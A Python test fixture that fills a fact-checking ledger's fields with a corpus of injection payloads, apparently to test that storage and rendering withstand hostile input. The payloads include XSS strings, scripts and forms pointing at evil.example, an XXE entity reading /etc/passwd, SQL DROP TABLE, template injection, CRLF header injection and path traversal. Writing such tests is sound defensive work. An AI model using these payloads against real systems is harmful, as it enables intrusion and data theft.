"""A corpus of poisoned words, and a ledger in which one of them stands in every field that comes from a document or a person."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, field

from counterclaim.ledger.actors import ActorChange, ActorRows
from counterclaim.ledger.origins import OriginRows
from counterclaim.ledger.store import Ledger
from counterclaim.read.identity import document_id
from counterclaim.records import (
    Attribution,
    Channel,
    Credit,
    Decision,
    Document,
    Likeness,
    Particular,
    Place,
    Quantity,
    Reason,
    Reference,
    Section,
    Span,
    Taken,
    Time,
    Verification,
)
from counterclaim.relate.origins import origin_id

MARK = "zqx"
"""Stands in every poison, so that its words are known again."""

LONG = 30_000
_SOME = 1_000  # of long words, where a person or the program gives them, not a document

POISONS: dict[str, str] = {
    # scripts
    "script": "<script>alert('zqx')</script>",
    "script in capitals": "<SCRIPT>alert('zqx')</SCRIPT>",
    "script in mixed letters": "<sCrIpT>alert('zqx')</ScRiPt >",
    "script from elsewhere": "<script src=//evil.example/zqx.js></script>",
    "script without an end": "<script>zqx",
    "script in a script": "<scr<script>ipt>alert('zqx')</scr</script>ipt>",
    "script after a stray end": "</script><script>alert('zqx')</script>",
    "script of a module": '<script type="module">import "https://evil.example/zqx.js"</script>',
    "script as entities": "&lt;script&gt;alert('zqx')&lt;/script&gt;",
    "script as numeric entities": "&#60;script&#62;alert('zqx')&#x3c;/script&#x3E;",
    "script as entities twice": "&amp;lt;script&amp;gt;zqx",
    "script in percent signs": "%3Cscript%3Ealert('zqx')%3C/script%3E",
    "script as escapes": "\\u003cscript\\u003ealert('zqx')\\x3c/script\\x3e",
    "script in UTF-7": "+ADw-script+AD4-alert('zqx')+ADw-/script+AD4-",
    "script in full width": "\uff1cscript\uff1ealert(\uff07zqx\uff07)\uff1c/script\uff1e",
    "script with a slash": '<script/zqx="1">alert(1)</script/x>',
    "script with a null byte": "<scr\x00ipt>alert('zqx')</scr\x00ipt>",
    "script with line ends": "<script\n>alert('zqx')</script\t\n>",
    # events
    "image that fails": "<img src=x onerror=alert('zqx')>",
    "image without a space": "<img/src=x/onerror=alert('zqx')>",
    "body that loads": "<body onload=alert('zqx')>",
    "details that open": "<details open ontoggle=alert('zqx')>",
    "input that takes the focus": "<input autofocus onfocus=alert('zqx')>",
    "marquee that starts": "<marquee onstart=alert('zqx')>zqx</marquee>",
    "video that fails": "<video><source onerror=alert('zqx')></video>",
    "link that is pointed at": "<a onmouseover=alert('zqx')>zqx</a>",
    "animation that ends": "<b style=animation-name:x onanimationend=alert('zqx')>zqx</b>",
    "event with a tab before its sign": "<img src=x onerror\t=\talert('zqx')>",
    # out of an attribute
    "out of double quotes": '" onmouseover="alert(\'zqx\')" x="',
    "out of single quotes": "' onmouseover='alert(\"zqx\")' x='",
    "out of no quotes": "zqx onmouseover=alert(1) x=",
    "out of grave accents": "` onmouseover=`alert('zqx')`",
    "out of typographic quotes": "\u201d onmouseover=\u201calert(\u2018zqx\u2019)\u201d",
    "out of an attribute and its element": "\"'><img src=x onerror=alert('zqx')>",
    "another class": '" class="zqx decided holds',
    "another address": '" href="javascript:zqx',
    "equals sign and a slash": "zqx/>x=y",
    # out of an element
    "out of a title": "</title><script>alert('zqx')</script>",
    "out of a text field": "</textarea><script>alert('zqx')</script>",
    "out of an option": "</option></select><script>alert('zqx')</script>",
    "out of everything": "</q></p></blockquote></article></div></main></body></html>zqx",
    "out of a style sheet": "</style><style>*{display:none}/*zqx*/</style>",
    "out of a drawing": "</text></svg><img src=x onerror=alert('zqx')>",
    "out of noscript": '<noscript><p title="</noscript><img src=x onerror=alert(\'zqx\')>">',
    "out of a template": "<template><script>zqx</script></template></template>",
    "plain text to the end": "<plaintext>zqx",
    "text that is no markup": "<xmp><listing>zqx",
    # other markup
    "frame": '<iframe srcdoc="<script>parent.zqx()</script>"></iframe>',
    "object": '<object data="data:text/html,<script>zqx</script>"></object><embed src=//evil.example/zqx>',
    "base": '<base href="https://evil.example/zqx/">',
    "page that goes elsewhere": '<meta http-equiv="refresh" content="0;url=https://evil.example/zqx">',
    "style sheet from elsewhere": '<link rel=stylesheet href="//evil.example/zqx.css">',
    "form to elsewhere": '<form action="https://evil.example/zqx"><input name=token><button>Accept</button>',
    "button for another form": '<button formaction="javascript:zqx" name=kind value=accept>Accept</button>',
    "drawing that loads": "<svg onload=alert('zqx')>",
    "drawing with a script": "<svg><script>alert('zqx')</script></svg>",
    "drawing that animates an address": '<svg><a><animate attributeName=href values="javascript:zqx"/><text>zqx</text></a></svg>',
    "drawing with foreign parts": "<svg><foreignObject><iframe src=javascript:zqx></iframe></foreignObject></svg>",
    "drawing that uses another": '<svg><use href="data:image/svg+xml,<svg id=x onload=zqx>#x"/></svg>',
    "formula": '<math><mtext></table><mglyph><style><img src=x onerror="zqx">',
    "formula with an address": '<math href="javascript:zqx">zqx</math>',
    "comment": "<!-- zqx --><!--><img src=x onerror=alert('zqx')>-->",
    "comment without an end": "<!-- zqx",
    "conditional comment": "<!--[if gte IE 4]><script>zqx</script><![endif]-->",
    "CDATA": "<![CDATA[<script>zqx</script>]]>",
    "declaration": "<!DOCTYPE x [<!ENTITY zqx SYSTEM 'file:///etc/passwd'>]>&zqx;",
    "processing instruction": "<?php zqx ?><?xml-stylesheet href='javascript:zqx'?>",
    "element that would be ours": '<mark class="human-mark">zqx</mark><b>zqx</b>',
    "names of the page's own parts": '<a id="main" name="token">zqx</a><form id="asking"><input name="q">',
    # style
    "style expression": '<p style="width:expression(alert(\'zqx\'))">zqx</p>',
    "style over the page": '<div style="position:fixed;inset:0;z-index:9">zqx</div>',
    "style that asks elsewhere": "zqx; background:url(javascript:zqx); } * { display: none } @import '//evil.example'",
    # addresses
    "address that runs": "javascript:alert('zqx')",
    "address that runs, in mixed letters": "JaVaScRiPt:alert('zqx')",
    "address that runs, with a tab": "java\tscript:alert('zqx')",
    "address that runs, after a space": " \x01javascript:alert('zqx')",
    "address that runs, as entities": "javascript&colon;alert&lpar;zqx&rpar;",
    "address of old script": "vbscript:msgbox('zqx')",
    "address that is a page": "data:text/html,<script>alert('zqx')</script>",
    "address that is a page, coded": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#zqx",
    "address without a scheme": "//evil.example/zqx",
    "address with backward slashes": "\\\\evil.example\\zqx",
    "address of a file": "file:///etc/zqx",
    "address on the web that breaks out": "https://evil.example/zqx\"onmouseover='alert(1)'><script>",
    "address on the web with a name": "https://desk.example@evil.example/zqx?a=1&b=<2>#\u202egnp",
    "way up": "../../../etc/zqx\\..\\..",
    "way up, coded": "..%2f..%2f%00zqx",
    # templates and data
    "template": "{{ 7*7 }}{{ case.__class__ }}zqx",
    "template statement": "{% for x in range(9) %}zqx{% endfor %}{# zqx #}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> [[7*7]] zqx",
    "format": "%s %(here)s {0.__class__} zqx %n",
    "JSON": '{"title": "zqx", "id": ["</script>", null, 1e999]}',
    "statement of a database": "zqx'; DROP TABLE document; --",
    "search syntax": '"zqx NEAR( * OR - ^ : AND"',
    "identifier of a statement": "a1 a2 contradicts zqx",
    "fragment": "#a1?open=a1&part=card&zqx",
    # characters
    "null byte": "zqx\x00zqx",
    "all controls": "zqx" + "".join(map(chr, (*range(1, 32), *range(127, 160)))),
    "escape sequences": "\x1b[31m\x1b]0;zqx\x07\x9b2J\x08\x08",
    "carriage returns": "zqx\rzqx\r\nSet-Cookie: zqx=1\r\n\r\nzqx",
    "separators of lines and paragraphs": "zqx\u2028zqx\u2029zqx\x85\x0b\x0c",
    "override": "zqx\u202egpj.exe",
    "embeddings without an end": "zqx\u202a\u202b\u202d" * 40,
    "isolates without an end": "zqx\u2066\u2067\u2068" * 40,
    "isolates that end others": "\u2069\u2069\u202c\u202czqx\u2069",
    "override as an entity": "&#8238;zqx&#x202e;&rlm;",
    "deprecated controls": "zqx\u206a\u206b\u206c\u206d\u206e\u206f\ufff9zqx\ufffa\ufffb",
    "zero width": "z\u200bq\u200cx\u200d\u2060\ufeffzqx\u00ad\u034f\u180e",
    "invisible name": "\u3164\u2800\u115f\u1160zqx",
    "tags and selectors": "zqx" + "".join(chr(0xE0000 + n) for n in (1, *range(0x20, 0x80))) + "\ufe0f\ufe0e",
    "not characters": "zqx\ufffe\uffff\U0001fffe\U0010ffff\ufdd0",
    "private use": "zqx\ue000\U000f0000\U0010fffd",
    "lone surrogates": "zqx\ud800\udc80\udfff",
    "marks on a letter": "zqx" + "o\u0335\u0321\u0322\u0489\u0300\u0301" + "\u0301\u0316" * 300,
    "name from right to left": "\u05e9\u05dc\u05d5\u05dd zqx \u0639\u0644\u064a",
    "name from right to left with marks": "\u0639\u0644\u064a (\u200fzqx\u200e) 12\u061c\u2013\u0663",
    "emoji": "zqx \U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\U000e0067\U000e007f \U0001f1e7\U0001f44d\U0001f3ff",
    "letters of many widths": "zqx\ufdfd\U0001242b\u2e3b\u0bcc",
    # size
    "long word": MARK * (LONG // 3),
    "long title of brackets": MARK + "<" * LONG,
    "long line of quotes": MARK + "\"'&" * (LONG // 3),
    "long name from right to left": MARK + "\u05d0" * LONG,
    "many lines": f"{MARK}\n" * 600,
    "many words": f"{MARK} " * (LONG // 4),
    "many marks": MARK + "\u0301" * LONG,
    "many elements": "<b>zqx<i>" * 2_000,
}  # fmt: skip


@dataclass
class Text:
    """A text that is made bit by bit, so that it is known where each bit stands."""

    words: str = ""

    def add(self, words: str, behind: str = " ") -> Span:
        start = len(self.words)
        self.words += words + behind
        return Span(start, start + len(words), words)


def storable(words: str) -> str:
    """As a ledger can hold it."""
    return words.encode("utf-8", "backslashreplace").decode()


@dataclass
class Poisoned:
    """What is in the ledger."""

    documents: list[Document] = field(default_factory=list)
    statements: list[Attribution] = field(default_factory=list)
    notes: list[Verification] = field(default_factory=list)

    @property
    def origin(self) -> str:
        """Of the first two reports."""
        return origin_id(self.documents[0].id)


ACTORS = ("p1", "p2", "p3")


def poison(ledger: Ledger, words: str) -> Poisoned:
    """Three reports, of which the second is a later version of the first, with the words in every field.

    Statements a1 (actor p1) and b1 (p2) contradict each other; a2 stands inside a1, c1 has no actor.
    """
    made = Poisoned()
    words = plain = storable(words)
    with ledger.writing() as writer:
        numbers = [_report(made, writer, letter, words, plain) for letter in "abc"]
        _actors(ActorRows(writer.connection, writer.generation), numbers, made, words, plain)
        more = {"probability": 0.9, "made_by": "made@1", "reasons": [["figures", words, [[made.documents[0].id, 0, 4]]]]}
        pairs = (("a1", "b1", "contradicts"), ("a1", "c1", "updates"), ("a2", "b1", "contradicts"), ("b1", "c1", "corroborates"))
        writer.keep_relations([{"a": a, "b": b, "relation": kind, **more} for a, b, kind in pairs])
        like = Likeness(made.documents[1].id, made.documents[0].id, "reprint", 0.9, (Reason("shared-words", words),))
        OriginRows(writer.connection, writer.generation).keep_likenesses([like])
        writer.keep_problem(words, None, words)
        writer.keep_problem(None, words, words)
        for decision in _decisions(made, plain):
            writer.keep_decision(decision)
    return made


def _report(made: Poisoned, writer, letter: str, words: str, plain: str) -> int:
    text = Text()
    some = plain[:_SOME]
    title = text.add(plain, "\n\n")
    menu = text.add(f"Menu {some}", "\n\n")
    said = [_said(text, letter, 1, plain, words)]
    if letter == "a":
        said.append(_said(text, letter, 2, some, words, parent="a1"))
    checked = text.add(f"It could not be verified because {some}", "\n")
    document = _document(letter, text.words, words, plain, (title, menu))
    why = Span(checked.start + 33, checked.end, plain)
    noted = Verification(document.id, checked.start, checked.end, checked.text, "unverified", why, (said[0].id,), some)
    said = [_in(document, a) for a in said]
    before = made.documents[0] if letter == "b" else None
    taken = Taken(text.words.encode(), "http", plain, f"{plain}{letter}", plain, plain, None, {some: plain, "status": plain})
    number = writer.keep_document(document, taken, before.id if before else None)
    change = {"kind": "real", "reasons": [["figures", words], ["sentence-added", words]]} if before else None
    writer.keep_reading(number, document, said, [noted], "made@1", origin_id(before.id if before else document.id), change)
    made.documents.append(document)
    made.statements += said
    made.notes.append(noted)
    return number


def _document(letter: str, text: str, words: str, plain: str, parts: Sequence[Span]) -> Document:
    title, menu = parts
    file, url = (plain, plain) if letter != "b" else (None, f"https://post.example/{plain}")
    return Document(
        id=document_id(text, file=f"{letter}.txt", url=None),
        text=text,
        file=file,
        url=url,
        publisher=None if letter == "c" else plain,
        title=None if letter == "c" else plain,
        authors=(words, words),
        published_at={"a": "2021-09-06", "b": "2021-09-08T10:00:00Z", "c": None}[letter],
        language=plain if letter != "b" else "en",
        sections=(
            Section("title", title.start, title.end), Section("furniture", menu.start, menu.end), Section("body", menu.end, len(text)),
        ),
        credits=(Credit(words, 0, 1),),
        problems=(words,),
        particulars=tuple(Particular(name, words, "json-ld") for name in ("title", "publisher", "authors", "url", "language")),
    )  # fmt: skip


def _said(text: Text, letter: str, number: int, plain: str, words: str, parent: str | None = None) -> Attribution:
    some = words[:_SOME]
    source = text.add(f"{plain[:20_000]} {letter}")
    cue = text.add(f"told {storable(some)}")
    figure = {"a": 12, "b": 30, "c": 14}[letter] + number
    what = text.add(f"that {figure} of {plain} had died", "\n")
    also = text.add(storable(some), "\n\n")
    place = (source.start, source.end, words)
    known = Place(*place, words, words, 43.2, 27.9, 1, "geonames:726050", words)
    places = (
        known,
        Place(*place, words, None, None, None, None, None, words, words),
        Place(*place, words, "BG", 42.7, 26.3, 4, "x:1", words),
    )
    return Attribution(
        f"{letter}{number}", "", source, cue, (what, also), "mixed", "asserts" if number == 1 else "opines", "positive", parent, 0.9,
        made_by={"stance": some, some: some},
        actor={"a": "p1", "b": "p2", "c": None}[letter],
        channel=Channel("interview", cue.start, cue.end),
        said_at="2021-09-05" if letter == "a" else None,
        said_in=known if letter != "c" else None,
        quantities=(Quantity(what.start, what.end, words, "killed", some, float(figure), float(figure), float(figure), words, some),),
        times=(Time(*place, words, False, words),),
        places=places,
        evidence={"stance": (Span(cue.start, cue.end, words),), some: (cue,)},
        unknown={"said_at": words, "said_in": words},
    )  # fmt: skip


def _in(document: Document, said: Attribution) -> Attribution:
    return Attribution(**{name: getattr(said, name) for name in said.__dataclass_fields__} | {"document": document.id})


def _actors(rows: ActorRows, numbers: Sequence[int], made: Poisoned, words: str, plain: str) -> None:
    lists = {
        "aliases": [words, f"{words} too"],
        "made_by": {"kind": words[:_SOME], "role": words[:_SOME]},
        "unresolved": [words],
        "told": [],
        "compared": [],
    }
    changes = []
    for n, identifier in enumerate(ACTORS):
        party = "p3" if identifier == "p1" else None
        values = {"id": identifier, "name": f"{plain} {n}", "kind": "person", "role": plain, "party": party, **lists}
        document = made.documents[n]
        source = next(a.source for a in made.statements if a.document == document.id)
        assert source is not None
        merged = [{"name": plain, "made_by": plain[:_SOME], "score": 0.8, "reasons": [{"kind": words, "detail": words}]}]
        changes.append((numbers[n], ActorChange(None, values, frozenset(), [Reference(document.id, source.start, source.end)], merged)))
    for number, change in changes:
        rows.keep(number, [change], 9)


def _decisions(made: Poisoned, plain: str) -> list[Decision]:
    """Of every kind; the last three are about what is gone."""
    document = made.documents[0].id
    note = made.notes[0]
    seen_words = {"source": [0, 4, plain], "content": [[0, 4, plain]]}
    seen = {"document": document, **seen_words, "name": plain, "title": plain, "text": plain}
    made_about = (
        ("assess", "attribution", "a1", {"credibility": 2}),
        ("correct", "attribution", "a1", {**seen_words, "said_at": plain, "actor": plain, "channel": plain}),
        ("assess", "actor", "p1", {"reliability": "b", "topic": plain}),
        ("correct", "actor", "p2", {"name": plain, "role": plain, "party": plain}),
        ("note", "verification", f"{document} {note.start} {note.end}", {}),
        ("accept", "relation", "a1 b1 contradicts", {}),
        ("note", "document", document, {}),
        ("note", "origin", origin_id(document), {}),
        ("note", "attribution", "gone", {}),
        ("reject", "relation", "a1 c1 contradicts", {}),
        ("reject", "actor", plain, {}),
    )  # fmt: skip
    return [
        Decision(f"j{n}", kind, about, subject, seen, value, plain[:4_000], plain[:_SOME], "2021-09-09T10:00:00Z")  # type: ignore[arg-type]
        for n, (kind, about, subject, value) in enumerate(made_about)
    ]
